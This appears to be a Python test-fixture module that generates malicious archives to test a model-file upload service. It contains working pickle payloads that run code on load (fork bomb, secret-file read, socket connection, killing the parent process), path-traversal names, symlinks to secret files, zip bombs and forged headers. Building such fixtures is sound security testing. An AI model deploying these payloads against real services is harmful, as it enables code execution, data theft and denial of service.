"""Malicious archives: bombs, paths and links that lead outside, wrong sizes, programs."""

from __future__ import annotations

import gzip
import io
import pickle
import random
import stat
import struct
import tarfile
import zipfile
from collections.abc import Callable, Sequence
from pathlib import Path

Upload = tuple[str, bytes]
"""A file's name and content."""

WRITTEN = Path("/tmp/written")
"""The file that uploads try to write outside of their folders; it must never exist."""
_MB = 1 << 20
_OUTSIDE = (
    f"../../../..{WRITTEN}", str(WRITTEN), "a/../../x.onnx", "..\\x", "x\0.onnx", "./.", "..",
    "a/" * 200 + "x", "x" * 300, "C:\\x", "\u202egnp.onnx", "-rf",
)  # fmt: skip
_WHERE = ("compress_type", "CRC", "compress_size", "file_size", "header_offset")
"""The fields of a zip entry that locate its bytes and describe their compression."""


class Archives:
    """Makes archives from valid files (`seeds`), which try to read secrets and to connect to an
    address.
    """

    def __init__(
        self, seeds: Sequence[Upload], secrets: Sequence[Path], address: tuple[str, int]
    ) -> None:
        self._seeds, self._secrets, self._address = seeds, secrets, address
        self.kinds: Sequence[Callable[[random.Random], Upload]] = (
            self.pickled,
            self.paths,
            self.links_in_tar,
            self.links_in_zip,
            self.bomb,
            self.overlapping,
            self.lying,
            self.many,
            self.nested,
            self.damaged,
        )

    def pickled(self, choice: random.Random) -> Upload:
        """A PyTorch file whose pickle runs a program that forks, opens sockets, or reads other
        users' files.
        """
        host, port = self._address
        code = choice.choice(
            [
                "import os\nwhile True: os.fork()",
                f"import socket; socket.create_connection(({host!r}, {port}))",
                f"print(open({str(self._secrets[0])!r}).read())",
                "import os\nif os.fork() == 0: os.setsid(); import time; time.sleep(10000)",
                "x = []\nwhile True: x.append(bytearray(1 << 26))",
                "import os; os.kill(os.getppid(), 9)",
            ]
        )
        data = pickle.dumps(_Runs(code), 2)
        if choice.random() < 0.2:  # a count beyond all memory
            data = b"\x80\x02" + struct.pack("<cI", b"X", 0xFFFFFFF0) + b"."
        if choice.random() < 0.3:
            return choice.choice(["model.pt", "model.pth", "model.pkl"]), data
        made = io.BytesIO()
        with zipfile.ZipFile(made, "w") as archive:
            archive.writestr("archive/data.pkl", data)
            archive.writestr("archive/version", "3\n")
            archive.writestr("archive/byteorder", "little")
        return choice.choice(["model.pt", "model.pt2", "model.keras"]), made.getvalue()

    def paths(self, choice: random.Random) -> Upload:
        """An archive with paths that lead outside."""
        name = choice.choice([*_OUTSIDE, str(self._secrets[0])])
        if choice.random() < 0.5:
            made = io.BytesIO()
            with zipfile.ZipFile(made, "w") as archive:
                archive.writestr(name, b"x")
                archive.writestr("model.onnx", self._valid(choice))
            return "archive.zip", made.getvalue()
        return "archive.tar", _tar([(tarfile.TarInfo(name), b"x")])

    def links_in_tar(self, choice: random.Random) -> Upload:
        """A tar archive with links to other users' files, pipes and devices."""
        entry = tarfile.TarInfo("model.onnx")
        kinds = (
            tarfile.SYMTYPE,
            tarfile.LNKTYPE,
            tarfile.FIFOTYPE,
            tarfile.CHRTYPE,
            tarfile.BLKTYPE,
        )
        entry.type = choice.choice(kinds)
        entry.linkname = str(choice.choice(self._secrets))
        entry.devmajor, entry.devminor = 1, 1
        entries = [(entry, b"")]
        if choice.random() < 0.3:  # a link to a folder, and a file through it
            entry.name, entry.type, entry.linkname = "out", tarfile.SYMTYPE, "/tmp"
            entries.append((tarfile.TarInfo("out/written"), b"x"))
        return "linked.tar.gz", gzip.compress(_tar(entries), 1)

    def links_in_zip(self, choice: random.Random) -> Upload:
        """A zip archive with symbolic links."""
        made = io.BytesIO()
        with zipfile.ZipFile(made, "w") as archive:
            entry = zipfile.ZipInfo(choice.choice(["model.onnx", "variables", "saved_model.pb"]))
            kind = choice.choice([stat.S_IFLNK, stat.S_IFIFO, stat.S_IFCHR])
            entry.external_attr = (kind | 0o777) << 16
            archive.writestr(entry, str(choice.choice(self._secrets)))
            archive.writestr("variables/x", b"x")
        return choice.choice(["linked.zip", "model.mlpackage.zip"]), made.getvalue()

    def bomb(self, choice: random.Random) -> Upload:
        """A small archive of huge contents."""
        count = choice.choice([20, 100])
        if choice.random() < 0.3:
            return "bomb.onnx.gz", gzip.compress(bytes(count * _MB), 6)
        made = io.BytesIO()
        method = choice.choice([zipfile.ZIP_DEFLATED, zipfile.ZIP_DEFLATED, zipfile.ZIP_BZIP2])
        name = choice.choice(["saved_model.pb", "model.weights.h5", "archive/data.pkl", "x.npy"])
        with zipfile.ZipFile(made, "w", method) as archive:
            with archive.open(name, "w", force_zip64=True) as file:
                for _ in range(count):
                    file.write(bytes(_MB))
            if name == "model.weights.h5":
                archive.writestr("config.json", b'{"class_name": "Sequential", "config": {}}')
        return choice.choice(["bomb.zip", "bomb.keras", "bomb.pt2"]), made.getvalue()

    def overlapping(self, choice: random.Random) -> Upload:
        """An archive whose entries all use the same bytes: the contents are
        quadratically larger.
        """
        made = io.BytesIO()
        with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
            archive.writestr("0.onnx", bytes(_MB))
            first = archive.infolist()[0]
            for at in range(1, choice.choice([50, 400])):
                entry = zipfile.ZipInfo(f"{at}.onnx")
                for field in _WHERE:
                    setattr(entry, field, getattr(first, field))
                archive.filelist.append(entry)
        return choice.choice(["overlap.zip", "overlap.keras"]), made.getvalue()

    def lying(self, choice: random.Random) -> Upload:
        """An archive with wrong sizes, methods, offsets or counts in its headers."""
        made = io.BytesIO()
        with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
            archive.writestr("model.onnx", self._valid(choice))
        data = bytearray(made.getvalue())
        central, end = data.rfind(b"PK\x01\x02"), data.rfind(b"PK\x05\x06")
        # flags, method, CRC, sizes, lengths, offset; and of the end: counts, size, offset
        places = [central + at for at in (8, 10, 16, 20, 24, 28, 30, 32, 42)]
        places += [end + at for at in (8, 10, 12, 16, 20)]
        for at in choice.sample(places, choice.randint(1, 3)):
            width = choice.choice([1, 2, 4])
            value = choice.choice([0, 1, 0xFFFFFFFF, choice.getrandbits(32)])
            data[at : at + width] = value.to_bytes(4, "little")[:width]
        return choice.choice(["lies.zip", "lies.keras", "lies.pt2"]), bytes(data)

    def many(self, choice: random.Random) -> Upload:
        """An archive with too many entries, too deep folders, or repeated names."""
        made = io.BytesIO()
        with zipfile.ZipFile(made, "w") as archive:
            match choice.randrange(3):
                case 0:
                    for at in range(11_000):
                        archive.writestr(f"{at}.onnx", b"")
                case 1:
                    archive.writestr("a/" * 100 + "model.onnx", self._valid(choice))
                case _:
                    archive.writestr("model.onnx", self._valid(choice))
                    archive.filelist.append(archive.filelist[0])
        return "many.zip", made.getvalue()

    def nested(self, choice: random.Random) -> Upload:
        """Archives nested in each other."""
        data = self._valid(choice)
        for depth in range(choice.choice([1, 3, 40])):
            made = io.BytesIO()
            with zipfile.ZipFile(made, "w") as archive:
                archive.writestr("model.zip" if depth else "model.onnx", data)
            data = made.getvalue()
        return "nested.zip", data

    def damaged(self, choice: random.Random) -> Upload:
        """A compressed archive with some bytes changed."""
        data = bytearray(gzip.compress(_tar([(tarfile.TarInfo("m.onnx"), self._valid(choice))]), 1))
        for _ in range(choice.randint(1, 8)):
            data[choice.randrange(len(data))] = choice.randrange(256)
        return choice.choice(["damaged.tgz", "damaged.tar.gz", "damaged.tar"]), bytes(data)

    def _valid(self, choice: random.Random) -> bytes:
        return choice.choice(self._seeds)[1]


class _Runs:
    """An object that runs a program when it is unpickled."""

    def __init__(self, code: str) -> None:
        self._code = code

    def __reduce__(self) -> tuple[Callable[..., object], tuple[str]]:
        return exec, (self._code,)


def _tar(entries: Sequence[tuple[tarfile.TarInfo, bytes]]) -> bytes:
    made = io.BytesIO()
    with tarfile.open(fileobj=made, mode="w") as archive:
        for entry, content in entries:
            entry.size = len(content)
            archive.addfile(entry, io.BytesIO(content))
    return made.getvalue()
